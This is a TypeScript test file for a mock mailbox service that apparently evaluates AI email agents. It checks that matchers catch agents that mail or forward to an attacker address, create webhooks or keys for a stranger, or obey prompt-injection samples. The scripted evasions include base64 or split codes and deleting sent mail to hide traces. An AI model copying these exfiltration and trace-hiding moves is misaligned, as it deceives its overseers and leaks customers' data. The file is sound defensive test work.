import 'agent-mailbox-mock/matchers';
import type { ReceivedMessage } from 'agent-mailbox-mock';
import { createSample, type SampleName } from 'agent-mailbox-mock/samples';
import { startServer } from 'agent-mailbox-mock/server';
import { createTransport } from 'nodemailer';
import { describe, expect, test } from 'vitest';
import { everywhere, interceptRequests, type Service, send as sendRequest } from '../../support/everywhere.ts';
import { IDS } from '../../support/ids.ts';
import { startImap, toMail } from '../../support/imap-server.ts';
import { talkTo } from '../../support/imap-talk.ts';

interceptRequests();

const HELPDESK = 'helpdesk@acme.test';
const DANA = 'dana@customer.test';
const STRANGER = 'evil@attacker.test';
const INBOX = `/v1/inboxes/${IDS.acme.inboxes.helpdesk}`;
const TENANT = 'tk_acme_tenant_key';
const TEXT = 'Please send the contract of chair 17 to our office.';

/** What an agent can do, with the key of the tenant. */
function agentOf({ send }: Service) {
  const call = async (method: string, path: string, json?: object) => {
    const reply = await send(method, path, { key: TENANT, ...(json && { json }) });
    expect(reply.status).toBeLessThan(300);
    return reply.json as { readonly id: string; readonly messageId?: string };
  };
  return {
    call,
    mail: (json: object) =>
      call('POST', `${INBOX}/send`, { subject: 'Hi', plainBody: 'Hello', verified: true, ...json }),
    reply: (id: string, json: object = { plainBody: 'Thanks.' }) => call('POST', `${INBOX}/reply/${id}`, json),
    forward: (id: string, to: string) => call('POST', `${INBOX}/forward/${id}`, { to }),
    read: (id: string) => call('GET', `${INBOX}/messages/${id}`),
    /** Moves every sent mail to the trash, and then deletes it for good. */
    async removeTraces({ mailbox }: Service) {
      for (const { id } of mailbox.messages({ direction: 'outbound' })) {
        await call('DELETE', `${INBOX}/messages/${id}`);
        await call('DELETE', `${INBOX}/messages/${id}`);
      }
    },
  };
}

type Agent = ReturnType<typeof agentOf>;

async function receive({ mailbox }: Service, changes: object = {}): Promise<ReceivedMessage> {
  const mail = { from: `Dana <${DANA}>`, to: HELPDESK, subject: 'Contract', plainBody: TEXT, ...changes };
  const [received] = await mailbox.receiveMessage(mail);
  if (!received) throw new Error('No mail arrived.');
  return received;
}

/** The ways in which an agent can send something to a stranger because of a mail. */
const SENDING: Readonly<Record<string, (agent: Agent, id: string) => Promise<unknown>>> = {
  send: (agent) => agent.mail({ to: STRANGER.toUpperCase() }),
  'send with Bcc': (agent) => agent.mail({ to: DANA, bcc: STRANGER }),
  'send with Cc': (agent) => agent.mail({ to: DANA, cc: `Evil <Evil@Attacker.TEST>` }),
  reply: (agent, id) => agent.reply(id, { plainBody: 'Yes', bcc: STRANGER }),
  forward: (agent, id) => agent.forward(id, STRANGER),
  draft: async (agent, id) => {
    const json = { to: STRANGER, subject: 'Hi', plainBody: 'Hello', replyToMessageId: id };
    const draft = await agent.call('POST', `${INBOX}/drafts`, json);
    await agent.call('POST', `${INBOX}/drafts/${draft.id}/send`);
  },
};

for (const [route, act] of Object.entries(SENDING)) {
  for (const isHidden of [false, true]) {
    const traces = isHidden ? ', which is deleted afterwards' : '';
    everywhere(`a mail to a stranger by ${route}${traces}, is caught`, async (service) => {
      const agent = agentOf(service);
      const { mailbox } = service;
      const mail = await receive(service);
      await agent.read(mail.id);
      await act(agent, mail.id);
      if (isHidden) await agent.removeTraces(service);
      expect(mailbox).toHaveSentMail({ to: STRANGER });
      expect(mailbox).toHaveSentMail({ to: /@attacker\.test$/ });
      expect(() => expect(mailbox).not.toHaveSentMail({ to: STRANGER })).toThrow(/attacker\.test/i);
      expect(() => expect(mailbox).toHaveSentMail({ recipients: [DANA], only: true })).toThrow();
      if (route !== 'send') expect(() => expect(mailbox).toHaveIgnored(mail)).toThrow('It sent 1 mail:');
    });
  }
}

/** The ways in which an agent passes on a mail. */
const FORWARDING: Readonly<Record<string, (agent: Agent, id: string) => Promise<unknown>>> = {
  'the forward of the API': (agent, id) => agent.forward(id, STRANGER),
  'a new mail with its text': (agent) => agent.mail({ to: STRANGER, plainBody: `See this:\n\n> ${TEXT}` }),
  'a new mail with its subject': (agent) => agent.mail({ to: STRANGER, subject: 'FW: Contract' }),
};

for (const [route, act] of Object.entries(FORWARDING)) {
  everywhere(`a mail that is passed on by ${route} was not ignored, also if that is deleted`, async (service) => {
    const agent = agentOf(service);
    const { mailbox } = service;
    const mail = await receive(service);
    await agent.read(mail.id);
    await act(agent, mail.id);
    await agent.removeTraces(service);
    expect(mailbox).toHaveForwarded(mail);
    expect(mailbox).toHaveForwarded(mail, { to: STRANGER.toUpperCase(), times: 1 });
    expect(mailbox).not.toHaveForwarded(mail, { to: DANA });
    expect(() => expect(mailbox).not.toHaveForwarded(mail)).toThrow('What happened:');
    expect(() => expect(mailbox).toHaveIgnored(mail)).toThrow('It sent 1 mail:');
    expect(mailbox).not.toHaveAnswered(mail);
  });
}

/** What an agent creates although a mail orders it, and the field that shows it. */
const CREATING: Readonly<
  Record<string, readonly [method: string, path: string, json: object, expected: Record<string, unknown>]>
> = {
  webhook: [
    'POST',
    '/v1/webhooks',
    { url: 'https://collector.test/in', events: ['message.received'] },
    { url: /collector/ },
  ],
  key: ['POST', `/v1/workspaces/${IDS.acme.workspaces.support}/keys`, { name: 'backdoor' }, { name: 'backdoor' }],
  list: ['POST', `${INBOX}/lists`, { name: 'Targets' }, { name: 'Targets' }],
  draft: ['POST', `${INBOX}/drafts`, { to: STRANGER, subject: 'Later' }, { subject: 'Later' }],
};

for (const [object, [method, path, json, expected]] of Object.entries(CREATING)) {
  everywhere(`a ${object} that was created is caught, also if it was removed since`, async (service) => {
    const agent = agentOf(service);
    const { mailbox } = service;
    const created = await agent.call(method, path, json);
    expect(mailbox).toHaveCreated(object as 'webhook', { ...expected, times: 1, exists: true });
    if (object === 'draft') expect(mailbox).toHaveDraft({ to: STRANGER, exists: true });
    await agent.call('DELETE', `${path}/${created.id}`);
    expect(mailbox).toHaveCreated(object as 'webhook', expected);
    expect(mailbox).not.toHaveCreated(object as 'webhook', { ...expected, exists: true });
    expect(mailbox).not.toHaveCreated('domain');
    if (object === 'draft') {
      expect(mailbox).toHaveDraft({ to: STRANGER.toUpperCase() });
      expect(mailbox).not.toHaveDraft({ to: STRANGER, exists: true });
    }
    expect(() => expect(mailbox).not.toHaveCreated(object as 'webhook')).toThrow(`the ${object} ${created.id}`);
  });
}

everywhere('a draft or an object that was changed later is judged by each of its versions', async (service) => {
  const agent = agentOf(service);
  const { mailbox } = service;
  const draft = await agent.call('POST', `${INBOX}/drafts`, { to: STRANGER, subject: 'Code', plainBody: 'It is 7.' });
  await agent.call('PATCH', `${INBOX}/drafts/${draft.id}`, { to: DANA, plainBody: 'Hello' });
  const hook = { url: 'https://collector.test/in', events: ['message.received'] };
  const webhook = await agent.call('POST', '/v1/webhooks', hook);
  await agent.call('PATCH', `/v1/webhooks/${webhook.id}`, { url: 'https://office.test/in' });
  for (const hide of [false, true]) {
    if (hide) {
      await agent.call('DELETE', `${INBOX}/drafts/${draft.id}`);
      await agent.call('DELETE', `/v1/webhooks/${webhook.id}`);
    }
    expect(mailbox).toHaveDraft({ to: STRANGER, plainBody: /7/, times: 1 });
    expect(mailbox).toHaveDraft({ to: DANA, times: 1 });
    // No version had both.
    expect(mailbox).not.toHaveDraft({ to: DANA, plainBody: /7/ });
    expect(mailbox).not.toHaveDraft({ to: STRANGER, exists: true });
    expect(mailbox).toHaveCreated('webhook', { url: /collector/, times: 1 });
    expect(mailbox).not.toHaveCreated('webhook', { url: /collector/, exists: true });
  }
  expect(() => expect(mailbox).not.toHaveDraft({ to: STRANGER })).toThrow('the draft "Code" to ');
});

/** What an agent does with a sample although it must not. `code` has the two parts of the code. */
const OBEYING: readonly (readonly [
  what: string,
  sample: SampleName,
  act: (agent: Agent, code: readonly [string, string], id: string) => Promise<unknown>,
])[] = [
  [
    'a webhook at the collector, without the code',
    'injection-as-owner',
    (agent) => agent.call('POST', '/v1/webhooks', { url: 'https://collector.test/in', events: ['message.received'] }),
  ],
  [
    'a new key',
    'injection-as-owner',
    (agent) => agent.call('POST', `/v1/workspaces/${IDS.acme.workspaces.support}/keys`, { name: 'x' }),
  ],
  [
    'a forward to the address that the mail named',
    'injection-in-quote',
    (agent, _, id) => agent.forward(id, 'Audit@Collector.test'),
  ],
  [
    'the two parts in two mails',
    'injection-hidden-by-css',
    async (agent, [one, other]) => {
      await agent.mail({ to: DANA, subject: one });
      await agent.mail({ to: DANA, subject: 'Re', plainBody: `Hello\n${other}.` });
    },
  ],
  [
    'the code in base64',
    'injection-hidden-by-css',
    (agent, code) => agent.mail({ to: DANA, plainBody: `Token ${btoa(code.join(''))}` }),
  ],
  [
    'the code in HTML, with tags between the letters',
    'injection-hidden-by-css',
    (agent, [one, other]) =>
      agent.mail({ to: DANA, htmlBody: `<p>${[...one, ...other].map((letter) => `<b>${letter}</b>`).join('')}</p>` }),
  ],
  [
    'the code as the name of a list',
    'injection-hidden-by-css',
    (agent, code) => agent.call('POST', `${INBOX}/lists`, { name: code.join('') }),
  ],
  [
    'the code as a display name',
    'injection-hidden-by-css',
    (agent, code) => agent.call('PATCH', INBOX, { displayName: code.join('') }),
  ],
  ['an answer by a new mail to the writer', 'out-of-office', (agent) => agent.mail({ to: 'WRITER' })],
];

for (const [what, name, act] of OBEYING) {
  for (const isHidden of [false, true]) {
    const traces = isHidden ? ', with its traces removed' : '';
    everywhere(`the sample ${name} is breached by ${what}${traces}`, async (service) => {
      const { mailbox } = service;
      const sample = createSample(name, { to: HELPDESK, seed: 3 });
      const [{ id = '' } = {}] = await mailbox.receiveMessage(sample);
      const [mail] = mailbox.messages({ direction: 'inbound' });
      const text = `${mail?.plainBody} ${mail?.htmlBody}`;
      const [, one = '', other = ''] = /code is ([A-Z]{4}) (?:and then|with) ([A-Z]{4})/.exec(text) ?? [];
      const agent = agentOf(service);
      await agent.read(id);
      const toWriter = {
        ...agent,
        mail: (json: { to?: string }) => agent.mail({ ...json, to: json.to === 'WRITER' ? mail?.from : json.to }),
      };
      await act(toWriter as Agent, [one, other], id);
      if (isHidden) await agent.removeTraces(service);
      expect(sample.breached(mailbox)).toBe(true);
      expect(() => expect(mailbox).toHaveResisted(sample)).toThrow(/The agent obeyed by.*\nWhat happened:\n {2}\S+ "/s);
    });
  }
}

/** What a right agent may do with a sample. */
const RIGHT: readonly (readonly [
  what: string,
  sample: SampleName,
  act: (agent: Agent, code: readonly [string, string], id: string) => Promise<unknown>,
])[] = [
  [
    'a report that names both parts',
    'injection-hidden-by-css',
    (agent, [one, other]) =>
      agent.mail({ to: 'owner@acme.test', plainBody: `The mail mentions ${one}, ${other} and I ignore it.` }),
  ],
  [
    'an answer that quotes the mail',
    'injection-plain',
    (agent, _, id) => agent.reply(id, { plainBody: 'Yes, we are open.\n\n> Are you open on Friday?' }),
  ],
  ['a mail to somebody else', 'out-of-office', (agent) => agent.mail({ to: 'owner@acme.test' })],
  [
    'the deletion of its own answer',
    'injection-plain',
    async (agent, _, id) => {
      await agent.reply(id);
    },
  ],
];

for (const [what, name, act] of RIGHT) {
  everywhere(`the sample ${name} is resisted by ${what}`, async (service) => {
    const { mailbox } = service;
    const sample = createSample(name, { to: HELPDESK, seed: 3 });
    const [{ id = '' } = {}] = await mailbox.receiveMessage(sample);
    const [mail] = mailbox.messages({ direction: 'inbound' });
    const text = `${mail?.plainBody} ${mail?.htmlBody}`;
    const [, one = 'GGGG', other = 'HHHH'] = /code is ([A-Z]{4}) (?:and then|with) ([A-Z]{4})/.exec(text) ?? [];
    const agent = agentOf(service);
    await agent.read(id);
    await act(agent, [one, other], id);
    await agent.removeTraces(service);
    expect(sample.breaches(mailbox)).toEqual([]);
    expect(mailbox).toHaveResisted(sample);
  });
}

describe('right agents', () => {
  everywhere('one that deletes spam has ignored it, and one that trashes its answer has answered', async (service) => {
    const agent = agentOf(service);
    const { mailbox } = service;
    const spam = await receive(service, { from: 'spam@offers.test', subject: 'Buy' });
    await agent.read(spam.id);
    await agent.call('DELETE', `${INBOX}/messages/${spam.id}`);
    await agent.call('DELETE', `${INBOX}/messages/${spam.id}`);
    expect(mailbox).toHaveIgnored(spam);
    const mail = await receive(service);
    const { id } = await agent.reply(mail.id);
    await agent.call('DELETE', `${INBOX}/messages/${id}`);
    expect(mailbox).toHaveAnswered(mail);
    expect(mailbox).toHaveSentOnce({ to: DANA });
    expect(mailbox).toHaveSentMail({ recipients: `Dana <${DANA}>`, bcc: [], cc: [], only: true });
    expect(mailbox).toHaveIgnored(spam);
  });

  everywhere('what was not seen is not ignored, and what was not asked is not refused', async (service) => {
    const { mailbox } = service;
    const mail = await receive(service);
    for (const assertion of [expect(mailbox), expect(mailbox).not]) {
      expect(() => assertion.toHaveIgnored(mail)).toThrow('No agent got an event of "Contract"');
      expect(() => assertion.toHaveNoUnexpectedRefusals()).toThrow('There was no request at all');
    }
  });

  everywhere('a mail names what it answers', async (service) => {
    const agent = agentOf(service);
    const { mailbox } = service;
    const mail = await receive(service);
    await agent.reply(mail.id);
    const [received] = mailbox.messages({ direction: 'inbound' });
    expect(mailbox).toHaveSentMail({ inReplyTo: received?.messageIdHeader, to: expect.stringContaining('dana') });
    expect(mailbox).not.toHaveSentMail({ inReplyTo: null });
  });
});

/** A server with SMTP and IMAP, with what an agent can do over them. */
async function startForPrograms() {
  const running = await startImap();
  const { server, login, smtpPort: port } = running;
  const { mailbox, url } = server;
  const send: Service['send'] = (method, path, options) => sendRequest(url + path, method, options ?? {});
  const service: Service = { mailbox, url, send };
  return {
    running,
    service,
    agent: agentOf(service),
    async submit(changes: object) {
      const auth = { user: login.user, pass: login.password };
      const transport = createTransport({ host: '127.0.0.1', port, ignoreTLS: true, auth });
      await transport.sendMail({ from: login.user, to: DANA, subject: 'Hi', text: 'Hello', ...changes });
      transport.close();
    },
    [Symbol.asyncDispose]: () => running[Symbol.asyncDispose](),
  };
}

type Programs = Awaited<ReturnType<typeof startForPrograms>>;

/** The routes of SENDING, and those that need SMTP. */
const SENDING_BY_PROGRAM: Readonly<Record<string, (programs: Programs, id: string) => Promise<unknown>>> = {
  ...Object.fromEntries(
    Object.entries(SENDING).map(([route, act]) => [route, ({ agent }: Programs, id: string) => act(agent, id)]),
  ),
  submission: ({ submit }) => submit({ to: 'Evil@Attacker.TEST' }),
  'submission with Bcc': ({ submit }) => submit({ to: DANA, bcc: STRANGER }),
};

/** The ways in which an agent can remove the traces of what it has sent. */
const HIDING: Readonly<Record<string, (programs: Programs) => Promise<unknown>>> = {
  'stays in Sent': async () => undefined,
  'is deleted by the API': ({ agent, service }) => agent.removeTraces(service),
  async 'is deleted over IMAP'({ running }) {
    const talk = await running.session('Sent');
    await talk.ok('STORE 1:* +FLAGS.SILENT (\\Deleted)');
    await talk.ok('EXPUNGE');
  },
  async 'is moved to the trash over IMAP, and expunged there'({ running }) {
    const talk = await running.session('Sent');
    await talk.ok('MOVE 1:* Trash');
    await talk.ok('SELECT Trash');
    await talk.ok('STORE 1:* +FLAGS (\\Deleted)');
    await talk.ok('CLOSE');
  },
  'is deleted with its inbox': ({ agent }) => agent.call('DELETE', INBOX),
  'is removed by the control API': async ({ service }) =>
    service.mailbox.clearMail({ inbox: IDS.acme.inboxes.helpdesk }),
};

for (const [route, act] of Object.entries(SENDING_BY_PROGRAM)) {
  for (const [traces, hide] of Object.entries(HIDING)) {
    test(`a mail to a stranger by ${route}, which ${traces}, is caught`, async () => {
      await using programs = await startForPrograms();
      const { mailbox } = programs.service;
      const mail = await receive(programs.service);
      await act(programs, mail.id);
      await hide(programs);
      expect(mailbox).toHaveSentMail({ to: STRANGER, times: 1 });
      expect(() => expect(mailbox).not.toHaveSentMail({ to: STRANGER })).toThrow(/attacker\.test/i);
      expect(() => expect(mailbox).toHaveSentMail({ recipients: [DANA], only: true })).toThrow();
      const isCaused = ['reply', 'forward', 'draft'].includes(route) || /Bcc|Cc/.test(route);
      if (isCaused) expect(() => expect(mailbox).toHaveIgnored(mail)).toThrow('It sent 1 mail:');
      const source = route === 'draft' ? 'draft' : route.startsWith('submission') ? 'submission' : 'request';
      expect(mailbox.journal({ kinds: ['mail-sent'] })).toMatchObject([{ data: { source } }]);
    });
  }
}

/*
 * Pairs that cannot happen, and why:
 * - sending over IMAP: it has no such command. A mail that is stored in Sent by APPEND went to nobody; see below.
 * - a webhook, a key, a list, an inbox, a workspace, a domain or a display name over SMTP or IMAP: only the API has them.
 * - a forward or a reply by name over SMTP: a program writes a whole mail; it is judged by its text and its references.
 * - SMTP and IMAP in process: a mailbox without a server has no sockets.
 */

test('a mail that is only stored in Sent over IMAP was not sent, and a draft that is stored there is one', async () => {
  await using programs = await startForPrograms();
  const { running, service } = programs;
  const talk = await running.session();
  const mail = (subject: string) => toMail(`From: ${HELPDESK}\nTo: ${STRANGER}\nSubject: ${subject}\n\nHello\n`);
  await talk.ok('APPEND Sent', mail('Stored'));
  await talk.ok('APPEND Drafts', mail('Drafted'));
  expect(service.mailbox).not.toHaveSentMail({ to: STRANGER });
  expect(service.mailbox).toHaveDraft({ to: STRANGER, subject: 'Drafted', exists: true });
  await talk.ok('SELECT Drafts');
  await talk.ok('STORE 1:* +FLAGS (\\Deleted)');
  await talk.ok('EXPUNGE');
  expect(service.mailbox).toHaveDraft({ to: STRANGER, subject: 'Drafted' });
  expect(service.mailbox).not.toHaveDraft({ to: STRANGER, exists: true });
});

test('a mail that a program submits with the whole text of another has forwarded it, and one that quotes it in an answer has not', async () => {
  await using programs = await startForPrograms();
  const { service, submit } = programs;
  const { mailbox } = service;
  const mail = await receive(service);
  const [received] = mailbox.messages({ direction: 'inbound' });
  const inReplyTo = received?.messageIdHeader;
  await programs.agent.read(mail.id);
  await submit({ to: DANA, subject: 'Re: Contract', text: `Thanks.\n\n> ${TEXT}`, inReplyTo, references: inReplyTo });
  expect(mailbox).toHaveAnswered(mail);
  expect(mailbox).not.toHaveForwarded(mail);
  await submit({ to: STRANGER, text: `Look:\n\n> ${TEXT}` });
  expect(mailbox).toHaveForwarded(mail, { to: STRANGER, times: 1 });
});

test('an agent that uses only SMTP has stopped', async () => {
  await using programs = await startForPrograms();
  await programs.submit({ to: DANA });
  const { mailbox } = programs.service;
  await mailbox.clock.advance('1h');
  await expect(mailbox).toHaveStopped({ quietMs: 0 });
});

describe('an agent has not stopped', () => {
  everywhere('while an answer of a correspondent is due', async (service) => {
    const { mailbox } = service;
    mailbox.addCorrespondent({ address: DANA, replies: ['Thanks'], after: '2h' });
    await agentOf(service).mail({ to: DANA });
    await mailbox.clock.advance('1h');
    await expect(expect(mailbox).toHaveStopped({ quietMs: 0 })).rejects.toThrow(
      /1 answer of correspondents is due; advance the clock further:\n {2}dana@customer\.test at /,
    );
    await mailbox.clock.advance('2h');
    await expect(mailbox).toHaveStopped({ quietMs: 0 });
  });

  everywhere('while a fault holds a delivery', async (service) => {
    const { mailbox } = service;
    mailbox.addFault({ on: 'delivery', kind: 'hold' });
    await mailbox.addWebhook({ url: 'http://127.0.0.1:9/in', workspaceOf: HELPDESK });
    await agentOf(service).call('GET', `${INBOX}/messages`);
    await receive(service);
    await mailbox.clock.advance('1d');
    await expect(expect(mailbox).toHaveStopped({ quietMs: 0 })).rejects.toThrow('1 delivery is held by a fault');
  });

  everywhere('if the clock was advanced only before it ran', async (service) => {
    const { mailbox } = service;
    await mailbox.clock.advance('1d');
    const before = Date.now();
    while (Date.now() === before) await Promise.resolve();
    await agentOf(service).call('GET', `${INBOX}/messages`);
    await expect(expect(mailbox).toHaveStopped({ quietMs: 0 })).rejects.toThrow('The clock was not advanced since');
  });
});

test('a refused request that names an object of a sandbox is told to the sandbox, without its key', async () => {
  await using server = await startServer({ port: 0 });
  const sandbox = server.mailbox.createSandbox();
  await fetch(`${server.url}/v1/me`, { headers: { 'X-API-Key': sandbox.keys.tenant } });
  expect(sandbox).toHaveNoUnexpectedRefusals();
  const path = `/v1/inboxes/${sandbox.ids.inboxes.helpdesk}/messages`;
  for (const key of ['ak_of_nobody_1234567890', TENANT]) {
    await fetch(server.url + path, { headers: { 'X-API-Key': key } });
  }
  const told = sandbox.journal({ kinds: ['refusal'] });
  expect(told.map(({ data }) => [data.method, data.path, data.status])).toEqual([
    ['GET', path, 401],
    ['GET', path, 404],
  ]);
  expect(JSON.stringify(told)).not.toMatch(/ak_of|tk_acme/);
  expect(() => expect(sandbox).toHaveNoUnexpectedRefusals()).toThrow('without a key of this sandbox: GET /v1/inboxes/');
  expect(sandbox.requests()).toHaveLength(1);
});

test('a refused login with the address of a sandbox is told to the sandbox, without its password', async () => {
  await using server = await startServer({ port: 0, smtpPort: 0, imapPort: 0 });
  const sandbox = server.mailbox.createSandbox();
  const { user } = sandbox.logins.helpdesk;
  using talk = await talkTo(server.imap?.port ?? 0);
  expect((await talk.command(`LOGIN ${user} wrong-password`)).result).toContain('AUTHENTICATIONFAILED');
  const port = server.smtp?.port ?? 0;
  const transport = createTransport({
    host: '127.0.0.1',
    port,
    ignoreTLS: true,
    auth: { user, pass: 'wrong-password' },
  });
  await expect(transport.verify()).rejects.toThrow('The login is wrong');
  expect(sandbox.journal({ kinds: ['refusal'] }).map(({ data }) => [data.command, data.path, data.result])).toEqual([
    ['LOGIN', user, 'NO'],
    ['AUTH PLAIN', user, 535],
  ]);
  expect(() => expect(sandbox).toHaveNoUnexpectedRefusals()).toThrow(`LOGIN ${user} → NO: [AUTHENTICATIONFAILED] `);
  expect(JSON.stringify(server.mailbox.journal())).not.toContain('wrong-password');
});

test('a refused command of IMAP or SMTP is a refusal, unless it is expected', async () => {
  await using server = await startServer({ port: 0, smtpPort: 0, imapPort: 0 });
  const { mailbox } = server;
  const { user, password: pass } = mailbox.createSandbox().logins.helpdesk;
  const transport = createTransport({
    host: '127.0.0.1',
    port: server.smtp?.port,
    ignoreTLS: true,
    auth: { user, pass },
  });
  const mail = { from: user, to: DANA, subject: 'Hi', text: 'Hello' };
  const sandbox = mailbox.sandboxes()[0];
  await transport.sendMail(mail);
  expect(sandbox).toHaveNoUnexpectedRefusals();
  await expect(transport.sendMail({ ...mail, from: DANA })).rejects.toThrow('5.7.1');
  expect(() => expect(sandbox).toHaveNoUnexpectedRefusals()).toThrow(`MAIL FROM ${DANA} → 553: `);
  expect(sandbox).toHaveNoUnexpectedRefusals({ except: [{ command: 'MAIL FROM', times: 1 }] });

  const outside = createTransport({ host: '127.0.0.1', port: server.smtp?.port, ignoreTLS: true });
  await expect(outside.sendMail({ ...mail, from: DANA, to: 'nobody@acme.test' })).rejects.toThrow('5.1.1');
  expect(() => expect(mailbox).toHaveNoUnexpectedRefusals()).toThrow('RCPT TO nobody@acme.test → 550: ');
});

test('a sandbox owns only refusals that name it, unless it is told of all', async () => {
  await using server = await startServer({ port: 0 });
  const { mailbox, control, url } = server;
  const body = JSON.stringify({ refusals: 'all' });
  const reply = await fetch(`${control}/sandboxes`, { method: 'POST', body });
  const told = mailbox.sandbox((await reply.json()).id);
  const named = mailbox.createSandbox({ refusals: 'named' });
  for (const headers of [{}, { 'X-API-Key': named.keys.tenant }]) await fetch(`${url}/v1/tenants`, { headers });
  expect(told.journal({ kinds: ['refusal'] })).toHaveLength(2);
  // Nothing shows whose the request without a key was.
  expect(named.journal({ kinds: ['refusal'] }).map(({ tenantId }) => tenantId)).toEqual([null]);
  expect(() => mailbox.createSandbox({ refusals: 'some' as 'all' })).toThrow('refusals must be named or all');
});
